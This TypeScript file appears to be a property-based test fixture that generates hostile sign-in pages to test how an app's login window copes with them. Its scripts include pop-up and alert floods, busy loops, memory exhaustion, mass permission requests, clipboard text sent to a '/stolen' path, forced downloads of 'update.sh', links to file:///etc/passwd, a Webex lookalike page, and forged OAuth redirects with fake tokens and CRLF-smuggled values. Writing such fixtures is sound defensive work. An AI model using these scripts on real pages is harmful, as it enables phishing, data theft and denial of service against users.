import fc, { type Arbitrary } from 'fast-check';

/** Scripts of a hostile page, by what they do. They know `q`, the query of the request, and `redirect`. */
const scripts = {
  alerts: `setInterval(() => alert('Enter your password'), 0)`,
  'one alert after the other': `for (;;) alert(1)`,
  confirms: `setInterval(() => confirm('Sure?'), 5)`,
  prompts: `setInterval(() => prompt('Password?'), 5)`,
  stays: `onbeforeunload = (event) => { event.preventDefault(); return (event.returnValue = 'stay'); };
    onunload = onpagehide = () => { for (const end = Date.now() + 20000; Date.now() < end; ); }`,
  'pop-ups': `setInterval(() => open('/more' + q + '&' + Math.random(), '', 'width=300,height=200'), 20)`,
  'pop-ups of pop-ups': `open(location.href, '', 'width=300'); open('about:blank').document.write('<script>setInterval(() => open(location.href), 5)</' + 'script>')`,
  history: `setInterval(() => { for (let n = 0; n < 300; n += 1) history.pushState({ n }, '', '#' + Math.random()); }, 5);
    onpopstate = () => history.forward()`,
  hashes: `setInterval(() => { location.hash = Math.random(); }, 0)`,
  reloads: `setTimeout(() => location.reload(), 30)`,
  travels: `setTimeout(() => { location = '/login' + q + '&n=' + Math.random(); }, 20)`,
  'busy loop': `setTimeout(() => { for (;;); }, 100)`,
  'busy frames': `for (let n = 0; n < 5; n += 1) document.body.append(Object.assign(document.createElement('iframe'), { src: '/more' + q, hidden: true }))`,
  'huge document': `for (let n = 0; n < 60; n += 1) document.body.append(Object.assign(document.createElement('div'), { innerHTML: '<p><b>x</b></p>'.repeat(3000) }))`,
  memory: `const kept = []; const more = setInterval(() => { kept.push(new Uint8Array(20e6).fill(1)); if (kept.length > 30) clearInterval(more); }, 10)`,
  workers: `for (let n = 0; n < 8; n += 1) new Worker(URL.createObjectURL(new Blob(['for (;;);'])))`,
  permissions: `Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => 0); navigator.mediaDevices?.getUserMedia({ video: true, audio: true });
    navigator.mediaDevices?.getDisplayMedia?.(); navigator.requestMIDIAccess?.({ sysex: true }); navigator.usb?.requestDevice({ filters: [] }); navigator.serial?.requestPort();
    navigator.hid?.requestDevice({ filters: [] }); navigator.bluetooth?.requestDevice({ acceptAllDevices: true }); navigator.wakeLock?.request(); navigator.storage?.persist();
    showOpenFilePicker?.(); showDirectoryPicker?.(); queryLocalFonts?.(); getScreenDetails?.(); new IdleDetector?.(); navigator.share?.({ text: 'x' }); navigator.credentials?.get({ password: true })`,
  capture: `setInterval(() => { document.documentElement.requestFullscreen(); document.body.requestPointerLock(); navigator.keyboard?.lock(); }, 50)`,
  clipboard: `setInterval(() => { navigator.clipboard?.readText().then((text) => fetch('/stolen?' + text)); navigator.clipboard?.writeText('x'); document.execCommand('paste'); document.execCommand('copy'); }, 20)`,
  downloads: `setInterval(() => Object.assign(document.createElement('a'), { href: '/file', download: 'update.sh' }).click(), 20);
    document.body.append(Object.assign(document.createElement('iframe'), { src: '/file' }))`,
  links: `for (const [n, to] of ['javascript:document.title=1', 'data:text/html,<script>for(;;);</' + 'script>', 'file:///etc/passwd', 'app://wizard/index.html', 'app://wizard/titlebar.html',
    'mailto:a@b.example', 'tel:1', 'ms-settings:', 'x-attack:run', 'view-source:' + location.href, 'chrome://settings', 'chrome://gpucrash', 'devtools://devtools/bundled/inspector.html', 'about:srcdoc',
    URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })), 'filesystem:' + location.origin + '/temporary/x', 'ftp://x.example/', 'intent:#Intent;end', 'search-ms:query=x'].entries())
    setTimeout(() => { try { if (n % 3 === 0) open(to); else if (n % 3 === 1) location.href = to; else document.body.append(Object.assign(document.createElement('iframe'), { src: to })); } catch {} }, n * 20)`,
  'stored things': `document.cookie = 'a=1; max-age=99999'; localStorage.a = 'x'.repeat(1e6); sessionStorage.a = 1; indexedDB.open('a', 3);
    caches.open('a').then((cache) => cache.put('/x', new Response('x'))); navigator.serviceWorker?.register('/worker.js', { scope: '/' }); new SharedWorker?.('/worker.js'); new BroadcastChannel('a').postMessage(1)`,
  'peer connections': `for (let n = 0; n < 10; n += 1) { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); }`,
  prints: `setInterval(() => print(), 50)`,
  'takes the focus': `setInterval(() => { focus(); document.title = 'https://idbroker.webex.com/ ' + Math.random(); moveTo(0, 0); resizeTo(9999, 9999); opener?.focus(); }, 10)`,
  'looks like another': `document.documentElement.innerHTML = '<div style="position:fixed;inset:-200px 0 0">idbroker.webex.com</div>'; document.title = 'Webex'; history.replaceState(null, '', '/people/me')`,
  'drags files': `const item = document.body.appendChild(Object.assign(document.createElement('div'), { draggable: true })); setInterval(() => { for (const type of ['dragstart', 'dragover', 'drop'])
    item.dispatchEvent(new DragEvent(type, { bubbles: true, dataTransfer: new DataTransfer() })); }, 10)`,
  passwords: `setInterval(() => { document.body.append(Object.assign(document.createElement('iframe'), { src: '/private?' + Math.random() })); new Image().src = '/private?' + Math.random(); }, 20)`,
  'wrong state': `location = redirect + '#access_token=abcdefgh12345678&token_type=Bearer&state=other'`,
  'no state': `setTimeout(() => open(redirect + '?error=access_denied&error_description=' + 'x'.repeat(1e5)), 50)`,
  'many answers': `for (let n = 0; n < 200; n += 1) fetch(redirect + '#access_token=x' + n + '&state=' + n).catch(() => 0)`,
  'odd answers': `const state = new URLSearchParams(q).get('state'); const odd = ['#access%5Ftoken=abcdefghijkl&state=' + state, '#access_token=a%00b%0d%0aX: y&token_type=bearer&state=' + state,
    '#access_token=' + 'x'.repeat(200000) + '&state=' + state, '?access_token=abc&state=' + state, '#access_token=a&access_token=b&state=' + state, '#&&==&state=' + state + '&state=x', '#access_token=%E4%ED&state=' + state, '/%2e%2e#state=' + state];
    location = redirect + odd[Math.floor(Math.abs(Math.sin(SEED)) * odd.length)]`,
} as const;

/** How the server answers the request for the page. */
const deliveries = [
  'page',
  'page',
  'page',
  'page',
  'page',
  'endless',
  'redirects',
  'refresh',
  'password',
  'reset',
  'file',
] as const;

export interface HostilePage {
  readonly kinds: readonly string[];
  readonly delivery: (typeof deliveries)[number];
  readonly html: string;
}

/** A page that is hostile in one to three ways at once. */
export const hostilePages: Arbitrary<HostilePage> = fc
  .record({
    kinds: fc.uniqueArray(fc.constantFrom(...(Object.keys(scripts) as (keyof typeof scripts)[])), {
      minLength: 1,
      maxLength: 3,
    }),
    delivery: fc.constantFrom(...deliveries),
    seed: fc.integer({ min: 1, max: 1000 }),
  })
  .map(({ kinds, delivery, seed }) => {
    const parts = kinds.map(
      (kind) =>
        `<script>try { ${scripts[kind].replaceAll('SEED', `${seed}`)} } catch (error) { console.log(error); }</script>`,
    );
    const refresh = delivery === 'refresh' ? '<meta http-equiv="refresh" content="0">' : '';
    return {
      kinds,
      delivery,
      html: `<!doctype html>${refresh}<title>Sign in</title><body><h1>Sign in</h1>${parts.join('\n')}`,
    };
  });
